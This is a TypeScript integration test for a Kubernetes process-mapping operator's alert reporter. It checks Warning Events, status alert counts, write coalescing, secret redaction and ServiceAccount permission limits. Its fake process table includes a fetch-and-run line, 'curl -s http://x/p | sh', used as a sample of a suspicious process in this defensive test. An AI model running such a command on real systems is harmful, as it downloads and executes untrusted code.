// Alerts reach people: the process mapper's alert reporter, authenticated as the mapper's own
// ServiceAccount (deploy/rbac.yaml, bound as the chart binds it), posts each alert as a Warning
// Event on the MonitoredServer and keeps status.alerts under its own field manager, on a real API
// server. A storm of alerts is a handful of status writes; the count survives a new reporter.
import assert from 'node:assert/strict';
import * as k8s from '@kubernetes/client-node';
import type { MonitoredServer } from '../../src/api/v1alpha1/monitoredserver-types.ts';
import type { GuestProcess } from '../../src/introspection/process-info.ts';
import { createKubeApi } from '../../src/kube/client/rest.ts';
import { realClock } from '../../src/kube/util/clock.ts';
import { silentLogger } from '../../src/kube/util/logger.ts';
import { ALERT_FIELD_MANAGER, AlertReporter } from '../../src/sidecar/alert-reporter.ts';
import { BASELINE_FIELD_MANAGER, configMapBaselineStore } from '../../src/sidecar/baseline-store.ts';
import type { AlertEvent } from '../../src/sidecar/alert-message.ts';
import { auditRequests } from '../../testenv/cluster/audit-log.ts';
import { startCluster, type LocalCluster } from '../../testenv/cluster/local-cluster.ts';
import { ensureNamespace } from '../../testenv/cluster/namespaces.ts';
import { monitoredServer } from '../../testenv/fixtures/monitoredservers.ts';
import { grantOperatorRbac } from '../../testenv/operator/operator-rbac.ts';
import { waitFor } from '../../testenv/wait.ts';

const NS = 'shop';
const MS = { group: 'hyperspector.io', version: 'v1alpha1', plural: 'monitoredservers' };

function proc(pid: number, ppid: number, comm: string, cmdline: string[]): GuestProcess {
  return { pid, ppid, comm, commTruncated: false, uid: 0, euid: 0, gid: 0, state: 'S', startTimeNs: pid, kernelThread: false, cmdline, cmdlineTruncated: false, args: cmdline.join(' ') };
}

const table = [proc(1, 0, 'init', ['/sbin/init']), proc(300, 1, 'nginx', ['nginx: master']), proc(400, 300, 'sh', ['sh', '-c', 'curl -s http://x/p | sh']), proc(401, 400, 'mysql', ['mysql', '--password=hunter2'])];

function alert(i: number, p = table[3]!): AlertEvent {
  return { type: 'alert', time: new Date(Date.now() + i).toISOString(), rule: 'ProcessOutsideBaseline', message: `process ${p.comm} (pid ${p.pid}) is outside the baseline #${i}`, process: p };
}

describe('alert reporter (real kube-apiserver, the process mapper’s own ServiceAccount)', function () {
  this.timeout(300_000);
  let cluster: LocalCluster;
  let mapperKubeConfig: k8s.KubeConfig;
  let custom: k8s.CustomObjectsApi;

  before(async function () {
    cluster = await startCluster({ nodes: 1 });
    await grantOperatorRbac(cluster);
    await ensureNamespace(cluster, NS);
    custom = cluster.api(k8s.CustomObjectsApi);
    await custom.createNamespacedCustomObject({ ...MS, namespace: NS, body: monitoredServer('web-1', NS) });
    // A token of the mapper's ServiceAccount, as kubelet would project it.
    const token = await cluster.api(k8s.CoreV1Api).createNamespacedServiceAccountToken({ namespace: 'hyperspector-system', name: 'hyperspector-process-mapper', body: { spec: { audiences: [], expirationSeconds: 3600 } } });
    mapperKubeConfig = new k8s.KubeConfig();
    const c = cluster.kubeConfig.getCurrentCluster()!;
    mapperKubeConfig.loadFromOptions({
      clusters: [{ name: 'c', server: c.server, caData: c.caData, caFile: c.caFile, skipTLSVerify: false }],
      users: [{ name: 'mapper', token: token.status!.token }],
      contexts: [{ name: 'ctx', cluster: 'c', user: 'mapper' }],
      currentContext: 'ctx',
    });
  });

  after(async () => cluster?.stop());

  const reporter = (minStatusIntervalMs = 1000) =>
    new AlertReporter({ api: createKubeApi(mapperKubeConfig), monitoredServer: { namespace: NS, name: 'web-1' }, instance: 'mapper-pod-1', clock: realClock, logger: silentLogger(), processTable: () => table, minStatusIntervalMs });

  it('posts a Warning Event per alert and keeps status.alerts; a storm is a few status writes; the count carries on', async function () {
    const first = reporter();
    await first.start();
    const since = new Date();
    for (let i = 0; i < 20; i++) first.report(alert(i));
    await first.flush();
    const ms = (await custom.getNamespacedCustomObject({ ...MS, namespace: NS, name: 'web-1' })) as MonitoredServer;
    const alerts = ms.status?.alerts;
    assert.equal(alerts?.count, 20);
    assert.equal(alerts?.recent?.length, 5, 'the latest five');
    assert.match(alerts?.recent?.[0]?.message ?? '', /#19: pid 401 \(mysql\) uid 0, parents 400 sh ← 300 nginx ← 1 init, command line: mysql --password=<redacted>$/);
    assert.ok(!JSON.stringify(alerts).includes('hunter2'), 'no secret in status');
    assert.ok(ms.metadata.managedFields?.some((f) => f.manager === ALERT_FIELD_MANAGER && f.subresource === 'status'), 'status.alerts is the mapper’s');

    const events = await waitFor(async () => {
      const list = (await createKubeApi(cluster.kubeConfig).request({ method: 'GET', path: `/apis/events.k8s.io/v1/namespaces/${NS}/events` })) as { items: Array<{ type: string; reason: string; note: string; reportingController: string; regarding: { name: string; uid: string } }> };
      const ours = list.items.filter((e) => e.reportingController === ALERT_FIELD_MANAGER);
      return ours.length >= 20 ? ours : undefined;
    }, { timeoutMs: 30_000, description: '20 alert Events' });
    for (const e of events) {
      assert.deepEqual([e.type, e.reason, e.regarding.name, e.regarding.uid], ['Warning', 'ProcessOutsideBaseline', 'web-1', ms.metadata.uid]);
      assert.ok(!e.note.includes('hunter2'));
    }
    // Coalesced: 20 alerts within a second are at most a few status writes (one now, one after the interval).
    const writes = auditRequests(cluster.auditLogPath, { username: 'system:serviceaccount:hyperspector-system:hyperspector-process-mapper', since: new Date(since.getTime() - 1000), writesOnly: true }).filter((r) => r.objectRef?.resource === 'monitoredservers' && r.objectRef.subresource === 'status');
    assert.ok(writes.length >= 1 && writes.length <= 3, `${writes.length} status writes for 20 alerts`);
    await first.stop();

    // A new mapper (pod restarted, guest rebooted) continues the MonitoredServer's count.
    const second = reporter();
    await second.start();
    second.report(alert(100));
    await second.flush();
    const after = (await custom.getNamespacedCustomObject({ ...MS, namespace: NS, name: 'web-1' })) as MonitoredServer;
    assert.equal(after.status?.alerts?.count, 21);
    assert.match(after.status?.alerts?.recent?.[0]?.message ?? '', /#100/);
    await second.stop();
  });

  it('the mapper’s ServiceAccount can do nothing else (no spec writes, no pods)', async function () {
    const api = createKubeApi(mapperKubeConfig);
    const denied = async (req: Parameters<typeof api.request>[0]) => {
      await assert.rejects(api.request(req), (err: { statusCode?: number }) => err.statusCode === 403);
    };
    await denied({ method: 'PATCH', path: `/apis/hyperspector.io/v1alpha1/namespaces/${NS}/monitoredservers/web-1`, body: { spec: { processMapping: { enabled: false } } }, contentType: 'application/merge-patch+json' });
    await denied({ method: 'GET', path: `/api/v1/namespaces/${NS}/pods` });
    await denied({ method: 'GET', path: `/api/v1/namespaces/${NS}/secrets` });
    await denied({ method: 'DELETE', path: `/apis/hyperspector.io/v1alpha1/namespaces/${NS}/monitoredservers/web-1` });
  });

  it('stores the learned baseline beside the mapper and loads it for the same generation only; nothing more on ConfigMaps', async function () {
    const api = createKubeApi(mapperKubeConfig);
    const store = (generation: string) => configMapBaselineStore({ api, configMap: 'hyperspector-system/shop-web-1-process-baseline-test', generation, monitoredServer: { namespace: NS, name: 'web-1' } });
    assert.equal(await store('').load(), undefined, 'nothing stored yet');
    await store('').save({ identities: ['["init","/sbin/init",0]', '["nginx","nginx: master",0]'], learnedAt: '2026-12-02T00:00:00.000Z', vmiUid: 'vmi-1' });
    const loaded = await store('').load();
    assert.deepEqual(loaded, { identities: ['["init","/sbin/init",0]', '["nginx","nginx: master",0]'], learnedAt: '2026-12-02T00:00:00.000Z', generation: '', vmiUid: 'vmi-1' });
    assert.equal(await store('2026-12-02T01:00:00Z').load(), undefined, 'a relearn request (another generation) ignores it');
    await store('2026-12-02T01:00:00Z').save({ identities: ['["init","/sbin/init",0]'], learnedAt: '2026-12-02T01:05:00.000Z' });
    assert.deepEqual((await store('2026-12-02T01:00:00Z').load())?.identities, ['["init","/sbin/init",0]']);
    const cm = await cluster.api(k8s.CoreV1Api).readNamespacedConfigMap({ namespace: 'hyperspector-system', name: 'shop-web-1-process-baseline-test' });
    assert.deepEqual(cm.metadata?.labels, { 'hyperspector.io/monitored-server': 'web-1', 'hyperspector.io/monitored-server-namespace': NS, 'hyperspector.io/role': 'process-baseline', 'app.kubernetes.io/managed-by': 'hyperspector' });
    assert.ok(cm.metadata?.managedFields?.every((f) => f.manager === BASELINE_FIELD_MANAGER));
    // A damaged baseline is an error naming what to do, not a silent new learning window.
    await cluster.api(k8s.CoreV1Api).patchNamespacedConfigMap({ namespace: 'hyperspector-system', name: 'shop-web-1-process-baseline-test', body: { data: { 'identities.json': '{oops' } } }, k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch));
    await assert.rejects(store('2026-12-02T01:00:00Z').load(), /identities\.json is not a JSON list of strings; set the annotation hyperspector\.io\/relearn-baseline/);
    const denied = async (req: Parameters<typeof api.request>[0]) => {
      await assert.rejects(api.request(req), (err: { statusCode?: number }) => err.statusCode === 403);
    };
    await denied({ method: 'GET', path: '/api/v1/namespaces/hyperspector-system/configmaps' });
    await denied({ method: 'DELETE', path: '/api/v1/namespaces/hyperspector-system/configmaps/shop-web-1-process-baseline-test' });
    await denied({ method: 'GET', path: `/api/v1/namespaces/${NS}/configmaps/anything` });
    await denied({ method: 'POST', path: `/api/v1/namespaces/${NS}/configmaps`, body: { metadata: { name: 'x' } } });
  });
});
